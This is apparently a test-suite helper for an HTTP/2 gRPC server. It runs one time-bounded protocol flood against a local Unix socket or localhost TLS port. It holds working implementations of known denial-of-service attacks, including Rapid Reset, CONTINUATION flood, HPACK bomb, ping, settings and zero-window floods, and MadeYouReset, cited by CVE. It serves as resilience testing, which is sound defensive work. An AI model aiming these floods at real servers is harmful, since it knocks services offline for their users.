"""`python -m tests.doubles.floods NAME PATH SECONDS`: one bounded protocol flood from a process of its own (S54, S55)."""

import json
import socket
import ssl
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST, SETTINGS, PING, WINDOW, CONTINUATION = 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request_headers(path="/door.Test/Echo", extra=()):
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost")]
    fields += [("content-type", "application/grpc"), ("te", "trailers"), *extra]
    return hpack.Encoder().encode(fields)


HEADER_BLOCK = request_headers()


def rapid_reset(connection):
    """Open a stream and cancel it at once, as fast as it goes (CVE-2023-44487)."""
    stream = 1
    while True:
        batch = bytearray()
        for _ in range(200):
            batch += frame(HEADERS, END_HEADERS, stream, HEADER_BLOCK)
            batch += frame(RST, 0, stream, struct.pack(">I", 8))
            stream += 2
        connection.sendall(batch)
        yield 200


def continuation_flood(connection):
    """A header block that never ends (CVE-2023-45288)."""
    connection.sendall(frame(HEADERS, 0, 1, HEADER_BLOCK))
    piece = frame(CONTINUATION, 0, 1, hpack.Encoder().encode([("x" * 100, "y" * 8000)], huffman=False))
    while True:
        connection.sendall(piece * 8)
        yield 8


def hpack_bomb(connection):
    """One large header in the table, named thousands of times in each block."""
    encoder = hpack.Encoder()
    connection.sendall(frame(HEADERS, END_HEADERS, 1, encoder.encode([("x-bomb", "b" * 3900)])))
    stream = 3
    while True:
        connection.sendall(frame(HEADERS, END_HEADERS, stream, HEADER_BLOCK + b"\xbe" * 12_000))
        stream += 2
        yield 1


def oversize_headers(connection):
    """16 KiB and more of header fields on each stream."""
    block = request_headers(extra=[(f"x-{i}", "z" * 1000) for i in range(60)])
    stream = 1
    while True:
        connection.sendall(frame(HEADERS, 0, stream, block[:16000]))
        for start in range(16000, len(block), 16000):
            last = start + 16000 >= len(block)
            connection.sendall(frame(CONTINUATION, END_HEADERS if last else 0, stream, block[start : start + 16000]))
        stream += 2
        yield 1


def ping_flood(connection):
    """Pings that each want an answer, which is never read (CVE-2019-9512)."""
    while True:
        connection.sendall(frame(PING, 0, 0, b"12345678") * 200)
        yield 200


def settings_flood(connection):
    """Settings that each want an acknowledgement (CVE-2019-9515)."""
    while True:
        connection.sendall(frame(SETTINGS, 0, 0) * 200)
        yield 200


def window_overflow(connection):
    """A window grown past 2^31 (RFC 9113 section 6.9.1)."""
    while True:
        connection.sendall(frame(WINDOW, 0, 0, struct.pack(">I", 2**31 - 1)) * 2)
        yield 2


def zero_window_hold(connection):
    """Requests whose answers may never be sent: the window stays at nought (CVE-2019-9517)."""
    connection.sendall(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
    stream = 1
    for _ in range(90):
        connection.sendall(frame(HEADERS, END_HEADERS, stream, HEADER_BLOCK))
        connection.sendall(frame(0, END_STREAM, stream, b"\0" + struct.pack(">I", 1000) + b"x" * 1000))
        stream += 2
        yield 1
    while True:
        time.sleep(0.05)
        yield 0


def made_resets(connection):
    """Calls that are over for the client, spoiled so that the server resets them itself (S56, CVE-2025-8671)."""
    stream = 1
    while True:
        batch = bytearray()
        for _ in range(100):
            batch += frame(HEADERS, END_HEADERS | END_STREAM, stream, HEADER_BLOCK)
            batch += frame(WINDOW, 0, stream, struct.pack(">I", 2**31 - 1)) * 2
            stream += 2
        connection.sendall(batch)
        yield 300


def drips(connection):
    """Messages that claim to be long and come one byte to a frame."""
    for stream in range(1, 101, 2):
        connection.sendall(frame(HEADERS, END_HEADERS, stream, HEADER_BLOCK))
        connection.sendall(frame(0, 0, stream, b"\0" + struct.pack(">I", 1_000_000)))
    while True:
        connection.sendall(b"".join(frame(0, 0, stream, b"x") for stream in range(1, 101, 2)) * 20)
        yield 1000


def small_calls(connection):
    """Whole and honest calls, as many as go, whose answers are read and thrown away."""
    stream = 1
    while True:
        batch = bytearray()
        for _ in range(25):
            batch += frame(HEADERS, END_HEADERS, stream, HEADER_BLOCK)
            batch += frame(0, END_STREAM, stream, b"\0" + struct.pack(">I", 1) + b"x")
            stream += 2
        connection.sendall(batch)
        connection.recv(65536)
        connection.sendall(frame(WINDOW, 0, 0, struct.pack(">I", 4096)))
        yield 25


def connected(target):
    """A greeted connection to a Unix socket, or by TLS and without a certificate to "tls:PORT"."""
    if target.startswith("tls:"):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        connection = socket.create_connection(("127.0.0.1", int(target[4:])), timeout=5)
        connection = context.wrap_socket(connection)
    else:
        connection = socket.socket(socket.AF_UNIX)
        connection.connect(target)
    connection.settimeout(1)
    return connection


def pump(path, flood, until, outcome):
    """Run one flood until the time is up, connecting again whenever it is cut off."""
    while time.monotonic() < until:
        try:
            connection = connected(str(path))
        except OSError:
            outcome["cut"] += 1
            time.sleep(0.02)
            continue
        with connection:
            try:
                outcome["connections"] += 1
                connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
                for count in flood(connection):
                    outcome["frames"] += count
                    if time.monotonic() > until:
                        return
            except OSError:
                outcome["cut"] += 1
                time.sleep(0.02)


FLOODS = {
    flood.__name__: flood
    for flood in (
        rapid_reset,
        continuation_flood,
        hpack_bomb,
        oversize_headers,
        ping_flood,
        settings_flood,
        window_overflow,
        zero_window_hold,
        made_resets,
        drips,
        small_calls,
    )
}

if __name__ == "__main__":
    tally = {"connections": 0, "frames": 0, "cut": 0}
    pump(sys.argv[2], FLOODS[sys.argv[1]], time.monotonic() + float(sys.argv[3]), tally)
    print(json.dumps(tally))
